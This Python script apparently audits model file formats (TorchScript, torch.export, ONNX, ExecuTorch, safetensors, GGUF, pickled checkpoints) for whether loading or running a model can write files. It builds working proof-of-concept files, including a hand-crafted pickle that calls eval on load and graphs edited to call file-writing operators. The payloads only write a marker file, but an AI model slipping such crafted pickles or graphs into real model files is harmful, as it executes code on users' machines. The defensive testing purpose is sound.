"""Once a file is open, can *running* the model do more than compute? For each format that stores a graph, build
one whose graph creates and writes a file (named GRAPH_WROTE, in this folder) with the format's own operators,
run it, and look for the file. Formats that store no graph only hand tensors to your code."""
# Timeout: 300
import json
import logging
import os
import shutil
import pickle
import re
import warnings
import zipfile
from pathlib import Path

warnings.filterwarnings("ignore")  # TorchScript's deprecation notices
logging.getLogger("torchao").setLevel(logging.ERROR)  # ExecuTorch's torchao: CUDA-only kernels, an Enum notice
logging.getLogger("torch.utils._pytree").setLevel(logging.ERROR)

import numpy as np
import onnx
import onnxruntime
import torch
import torch.nn as nn
from executorch.exir import to_edge
from executorch.extension.pybindings.portable_lib import _get_operator_names
from executorch.runtime import Runtime
from gguf import GGUFReader, GGUFWriter
from safetensors.torch import load_file, save_file

onnxruntime.set_default_logger_severity(3)
MARKER = "GRAPH_WROTE"
# The hostile files are made in a folder of their own, removed at the end: none is left lying around.
os.makedirs("attacks", exist_ok=True)
os.chdir("attacks")
found, report = {}, []


def wrote() -> bool:
    there = os.path.exists(MARKER)
    if there:
        os.remove(MARKER)
    return there


def attempt(run) -> str:
    try:
        run()
        return "ran"
    except Exception as error:  # noqa: BLE001 - a refusal is the answer we look for
        line = re.search(r"(\S.*)", str(error))
        return f"refused: {type(error).__name__}: {line.group(1)[:160] if line else ''}"


# TorchScript: forward() calls torch.from_file(..., shared=True), which creates the file and maps it; fill_ writes.
class WritesInForward(nn.Module):
    def forward(self, x):
        mapped = torch.from_file("GRAPH_WROTE", shared=True, size=4, dtype=torch.uint8)
        mapped.fill_(33)
        return x + mapped.sum()  # uses the mapping, so the compiler keeps it


torch.jit.save(torch.jit.script(WritesInForward()), "writes.pt")
loaded = torch.jit.load("writes.pt")
opened = wrote()
outcome = attempt(lambda: loaded(torch.ones(1)))
ran = wrote()
report.append(f"torchscript / forward() with torch.from_file: load wrote: {opened}; run: {outcome}; wrote: {ran}")
found["torchscript"] = {"running": "touches_files" if ran else "compute_only", "tried": ["forward torch.from_file"]}

# torch.export refuses to trace from_file (it has no fake kernel), but a .pt2 names its operators as strings in
# models/model.json: edit a saved graph so that its first node calls aten.from_file and the next one fill_.
class Full(nn.Module):
    def forward(self, x):
        return x + torch.full((4,), 7, dtype=torch.uint8).sum()


torch.export.save(torch.export.export(Full(), (torch.ones(4),)), "full.pt2")
with zipfile.ZipFile("full.pt2") as archive:
    members = {info.filename: archive.read(info) for info in archive.infolist()}
graph_json = next(name for name in members if name.endswith("models/model.json"))
program = json.loads(members[graph_json])
nodes = program["graph_module"]["graph"]["nodes"]
nodes[0]["target"] = "torch.ops.aten.from_file.default"
nodes[0]["inputs"] = [{"name": "filename", "arg": {"as_string": MARKER}, "kind": 1},
                      {"name": "shared", "arg": {"as_bool": True}, "kind": 1},
                      {"name": "size", "arg": {"as_int": 4}, "kind": 1},
                      {"name": "dtype", "arg": {"as_scalar_type": 1}, "kind": 2}]  # 1 is uint8
fill = {**nodes[1], "target": "torch.ops.aten.fill_.Scalar", "name": "filled",
        "inputs": [{"name": "self", "arg": {"as_tensor": {"name": nodes[0]["name"]}}, "kind": 1},
                   {"name": "value", "arg": {"as_int": 33}, "kind": 1}],
        "outputs": [{"as_tensor": {"name": "filled"}}]}
nodes[1]["inputs"][0]["arg"]["as_tensor"]["name"] = "filled"
nodes.insert(1, fill)
tensors = program["graph_module"]["graph"]["tensor_values"]
tensors["filled"] = tensors[nodes[0]["name"]]
members[graph_json] = json.dumps(program).encode()
with zipfile.ZipFile("writes.pt2", "w") as archive:
    for name, data in members.items():
        archive.writestr(name, data)
exported = torch.export.load("writes.pt2")
opened = wrote()
outcome = attempt(lambda: exported.module()(torch.ones(4)))
ran = wrote()
report.append(f"export_pt2 / graph calling aten.from_file + fill_: load wrote: {opened}; run: {outcome}; wrote: {ran}")
found["export_pt2"] = {"running": "touches_files" if ran else "compute_only", "tried": ["aten.from_file node"]}

# ONNX: an operator exists only if a runtime registers it. The standard domains have no file operator (we list
# every schema onnx knows); a node from a domain the runtime does not know is refused when the session is made.
schemas = [s for s in onnx.defs.get_all_schemas_with_history() if s.domain in ("", "ai.onnx.ml")]
file_like = sorted({s.name for s in schemas if re.search(r"file|open|read|write|save|load|path", s.name, re.I)})
report.append(f"onnx / {len({s.name for s in schemas})} operators of the standard domains; names that mention "
              f"files, reading or writing: {file_like}")
node = onnx.helper.make_node("WriteFile", ["x"], ["y"], domain="attacker.io", path=MARKER)
graph = onnx.helper.make_graph([node], "g", [onnx.helper.make_tensor_value_info("x", onnx.TensorProto.FLOAT, [4])],
                               [onnx.helper.make_tensor_value_info("y", onnx.TensorProto.FLOAT, [4])])
onnx.save(onnx.helper.make_model(graph, opset_imports=[onnx.helper.make_opsetid("", 17),
                                                       onnx.helper.make_opsetid("attacker.io", 1)]), "writes.onnx")
outcome = attempt(lambda: onnxruntime.InferenceSession("writes.onnx").run(None, {"x": np.ones(4, np.float32)}))
ran = wrote()
report.append(f"onnx / WriteFile node from an unknown domain / InferenceSession: {outcome}; wrote: {ran}")
found["onnx"] = {"running": "touches_files" if ran or file_like else "compute_only",
                 "tried": ["standard operators listed", "custom-domain WriteFile"]}

# ExecuTorch: a program calls kernels by name from the runtime's registry. List the registry, then rename an
# operator in a program to one the registry lacks and try to load it.
kernels = _get_operator_names()
file_kernels = sorted(k for k in kernels if re.search(r"file|open|read|write|save|load|path", k, re.I))
report.append(f"executorch / {len(kernels)} kernels registered in the runtime; names that mention files, "
              f"reading or writing: {file_kernels}")


class Clamp(nn.Module):
    def forward(self, x):
        return torch.clamp(x, min=0.5)


program = to_edge(torch.export.export(Clamp(), (torch.ones(2),))).to_executorch().buffer
assert program.count(b"aten::clamp") == 1
Path("renamed.pte").write_bytes(program.replace(b"aten::clamp", b"aten::fopen"))  # same length: still valid
outcome = attempt(lambda: Runtime.get().load_program("renamed.pte").load_method("forward").execute([torch.ones(2)]))
ran = wrote()
report.append(f"executorch / program calling aten::fopen / load_method: {outcome}; wrote: {ran}")
found["executorch"] = {"running": "touches_files" if ran or file_kernels else "compute_only",
                       "tried": ["registered kernels listed", "unregistered operator"]}

# No graph in the file: what loads is tensors, and the code that computes with them is yours.
torch.save({"fc.weight": torch.ones(2)}, "state_dict.pt")
torch.save({"model_state_dict": {"fc.weight": torch.ones(2)}, "epoch": 1}, "checkpoint.pt")
save_file({"fc.weight": torch.ones(2)}, "model.safetensors")
writer = GGUFWriter("model.gguf", arch="demo")
writer.add_tensor("fc.weight", np.ones(2, np.float32))
writer.write_header_to_file(); writer.write_kv_data_to_file(); writer.write_tensors_to_file(); writer.close()


def leaves(obj):
    if isinstance(obj, dict):
        return [leaf for value in obj.values() for leaf in leaves(value)]
    return [obj]


for fmt, load in [("state_dict", lambda: leaves(torch.load("state_dict.pt"))),
                  ("checkpoint", lambda: leaves(torch.load("checkpoint.pt"))),
                  ("safetensors", lambda: leaves(load_file("model.safetensors"))),
                  ("gguf", lambda: [t.data for t in GGUFReader("model.gguf").tensors])]:
    kinds = sorted({type(leaf).__name__ for leaf in load()})
    report.append(f"{fmt} / what loads: {kinds}")
    found[fmt] = {"running": "no_graph" if set(kinds) <= {"Tensor", "ndarray", "memmap", "int"} else "unknown",
                  "tried": ["what loads"]}

# A whole pickled model: its pickle can run anything while it loads (check_safety.py), and what it returns can be
# any object at all; a "model" whose forward writes a file is the smallest demonstration.
torch.save({"forward": None}, "whole_model.pt")
with zipfile.ZipFile("whole_model.pt") as archive:
    pkl = next(n for n in archive.namelist() if n.endswith("/data.pkl"))
code = f"lambda x: open({MARKER!r}, 'w').write('ran') and x"
members = {pkl: b"\x80\x02c__builtin__\neval\n" + pickle.dumps(code, protocol=2)[2:-1] + b"\x85R."}
with zipfile.ZipFile("whole_model.pt") as old, zipfile.ZipFile("whole_model2.pt", "w") as new:
    for info in old.infolist():
        new.writestr(info, members.get(info.filename, old.read(info)))
returned = torch.load("whole_model2.pt", weights_only=False)
opened = wrote()
outcome = attempt(lambda: returned(torch.ones(1)))
ran = wrote()
report.append(f"whole_model / pickle returning a function that writes a file: {outcome}; wrote: {ran}")
found["whole_model"] = {"running": "touches_files" if ran else "compute_only", "tried": ["pickled eval lambda"]}

print("\n".join(report))
print(json.dumps(found, indent=1))
os.chdir("..")
shutil.rmtree("attacks")
